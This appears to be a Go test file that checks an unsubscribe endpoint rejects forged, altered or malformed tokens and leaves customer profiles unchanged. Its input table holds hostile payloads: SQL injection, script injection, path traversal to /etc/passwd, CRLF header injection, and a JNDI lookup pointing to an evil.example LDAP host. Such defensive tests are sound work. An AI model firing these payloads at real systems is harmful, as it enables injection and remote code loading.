package main

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/aws/aws-lambda-go/events"

	"github.com/tsunagu-dev/tsunagu/infra/testkit/testenv"
	"github.com/tsunagu-dev/tsunagu/shared/unsubscribe"
)

// hostileQueries are unsubscribe link queries that name no customer: no
// token, a forged or altered one, or the right token inside a query the
// handler must not trust.
func hostileQueries(sealer *unsubscribe.Sealer) []struct{ name, query string } {
	good := sealer.Token("c-1", "email")
	// A token is "<key id>.<sealed bytes, base64url>"; the variants below
	// keep the key id and change the sealed bytes.
	kid, sealed, _ := strings.Cut(good, ".")
	raw, _ := base64.RawURLEncoding.DecodeString(sealed)
	other, _ := unsubscribe.NewSealer("another-secret")
	otherKid, _, _ := strings.Cut(other.Token("c-1", "email"), ".")
	flipped := append([]byte(nil), raw...)
	flipped[len(flipped)-1] ^= 1
	reversed := []byte(good)
	slices.Reverse(reversed)
	kid += "."
	return []struct{ name, query string }{
		{"no query", ""},
		{"no token", "customer=c-1&channel=email"},
		{"empty token", "token="},
		{"token twice", "token=" + good + "&token=" + good},
		{"token and an empty token", "token=" + good + "&token="},
		{"token under another name", "Token=" + good},
		{"token as an array", "token[]=" + good},
		{"garbage token", "token=garbage"},
		{"sql token", "token=" + url.QueryEscape("' OR '1'='1")},
		{"script token", "token=" + url.QueryEscape("<script>alert(1)</script>")},
		{"traversal token", "token=" + url.QueryEscape("../../../etc/passwd")},
		{"customer id as token", "token=c-1"},
		{"token of another key", "token=" + other.Token("c-1", "email")},
		{"token naming another key", "token=" + otherKid + "." + sealed},
		{"token with two key ids", "token=" + kid + good},
		{"key id only", "token=" + kid},
		{"token truncated", "token=" + good[:len(good)-1]},
		{"token halved", "token=" + good[:len(good)/2]},
		{"token one bit changed", "token=" + kid + base64.RawURLEncoding.EncodeToString(flipped)},
		{"token with a byte appended", "token=" + kid + base64.RawURLEncoding.EncodeToString(append(append([]byte(nil), raw...), 0))},
		{"token reversed", "token=" + string(reversed)},
		{"token with padding", "token=" + url.QueryEscape(kid+base64.URLEncoding.EncodeToString(raw)+"==")},
		{"token in the standard alphabet", "token=" + url.QueryEscape(kid+base64.StdEncoding.EncodeToString(raw)+"+/")},
		{"token with nul", "token=" + good + "%00"},
		{"token with a tab", "token=" + good + "%09"},
		{"token uppercased", "token=" + strings.ToUpper(good)},
		{"nonce only", "token=" + kid + base64.RawURLEncoding.EncodeToString(raw[:12])},
		{"all zeros", "token=" + kid + base64.RawURLEncoding.EncodeToString(make([]byte, len(raw)))},
		{"malformed percent", "token=%zz" + good},
		{"semicolon", "token=" + good + ";channel=line"},
		{"query over 2 KiB with the token", "token=" + good + "&pad=" + strings.Repeat("x", 2048)},
		{"six hundred parameters with the token", strings.Repeat("a=1&", 600) + "token=" + good},
		{"fullwidth token", "token=" + url.QueryEscape("ｔｏｋｅｎ")},
		{"token of the line channel, cut", "token=" + sealer.Token("c-1", "line")[:20]},
		{"token with a space", "token=" + good[:10] + "+" + good[10:]},
		{"token with a newline", "token=" + good + "%0A"},
		{"token with crlf injection", "token=" + good + "%0D%0ALocation:%20https://evil.example"},
		{"token percent-encoded twice", "token=" + url.QueryEscape(url.QueryEscape(good+"="))},
		{"token with a fragment", "token=" + good[:len(good)-3] + "%23" + good[len(good)-3:]},
		{"token with a dot", "token=" + good + "."},
		{"token with a slash", "token=" + good[:5] + "/" + good[5:]},
		{"json token", "token=" + url.QueryEscape(`{"customer":"c-1","channel":"email"}`)},
		{"template token", "token=" + url.QueryEscape("{{.Customer}}")},
		{"jndi token", "token=" + url.QueryEscape("${jndi:ldap://evil.example/a}")},
		{"very long token", "token=" + strings.Repeat("A", 1500)},
		{"unicode token", "token=" + url.QueryEscape("トークン")},
		{"right-to-left override", "token=" + url.QueryEscape("\u202e") + good},
		{"emoji token", "token=" + url.QueryEscape("🙂")},
		{"only separators", "&&&=&=="},
		{"key without value", "token"},
		{"token of an empty customer", "token=" + sealer.Token("", "email")[:len(good)/2]},
		{"another key's line token", "token=" + other.Token("c-1", "line")},
		{"token with a plus", "token=" + good + "+"},
	}
}

// TestUnsubscribeRefusesHostileInput sends GET and POST /unsubscribe
// forged, altered and drowned tokens, hostile bodies and route mix-ups:
// each answers its status with a page, and no profile changes.
func TestUnsubscribeRefusesHostileInput(t *testing.T) {
	h, st, sealer := setup(t)
	good := "token=" + sealer.Token("c-1", "email")
	req := func(routeKey, query, body string) events.APIGatewayV2HTTPRequest {
		return events.APIGatewayV2HTTPRequest{RouteKey: routeKey, RawPath: "/unsubscribe", RawQueryString: query, Body: body,
			Headers: map[string]string{"content-type": "application/x-www-form-urlencoded"}}
	}
	routes := []struct {
		name, key string
		tests     []testenv.Refused
	}{{name: "GET", key: pageRoute}, {name: "POST", key: oneClickPost}, {name: "GET confirm", key: confirmPage}, {name: "POST confirm", key: confirmPost}}
	for i := range routes {
		r := &routes[i]
		for _, q := range hostileQueries(sealer) {
			r.tests = append(r.tests,
				testenv.Refused{Name: q.name, Req: req(r.key, q.query, "List-Unsubscribe=One-Click"), Status: 400},
				testenv.Refused{Name: q.name + ", token in the body", Req: req(r.key, q.query, good), Status: 400},
			)
		}
	}
	// GET never changes anything, whatever comes with the right token
	// (link scanners and prefetchers follow links).
	for _, b := range []struct{ name, body string }{
		{"one-click body", "List-Unsubscribe=One-Click"},
		{"script body", "<script>alert(1)</script>"},
		{"binary body", "\x00\xff\xfe"},
		{"huge body", strings.Repeat("List-Unsubscribe=One-Click&", 20000)},
	} {
		routes[0].tests = append(routes[0].tests, testenv.Refused{Name: "right token, " + b.name, Req: req(pageRoute, good, b.body), Status: 200})
	}
	routes[0].tests = append(routes[0].tests,
		testenv.Refused{Name: "right token, base64 flag lying", Req: func() events.APIGatewayV2HTTPRequest {
			r := req(pageRoute, good, "List-Unsubscribe=One-Click")
			r.IsBase64Encoded = true
			return r
		}(), Status: 200},
		testenv.Refused{Name: "right token, another route key", Req: req("DELETE /unsubscribe", good, ""), Status: 404},
		testenv.Refused{Name: "right token, no route key", Req: req("", good, ""), Status: 404},
	)
	page := func(resp events.APIGatewayV2HTTPResponse) error {
		if !strings.HasPrefix(resp.Headers["Content-Type"], "text/html") {
			return fmt.Errorf("answer is %q, not a page", resp.Headers["Content-Type"])
		}
		return nil
	}
	for _, r := range routes {
		t.Run(r.name, func(t *testing.T) {
			testenv.ExpectNoEffect(t, st.Table(), h.Handle, r.tests, page, nil)
		})
	}
}
